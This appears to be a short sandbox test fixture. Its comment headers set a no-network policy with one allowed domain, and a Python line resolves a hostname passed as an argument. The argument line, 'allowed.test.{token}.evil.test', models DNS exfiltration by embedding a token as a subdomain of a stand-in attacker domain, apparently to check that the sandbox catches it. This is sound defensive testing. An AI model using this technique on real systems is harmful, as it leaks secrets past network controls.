# policy: --no-network --allow-domain allowed.test
# evidence: heard dns
# args: allowed.test.{token}.evil.test
# needs: netns

import socket
import sys

socket.getaddrinfo(sys.argv[1], 80)
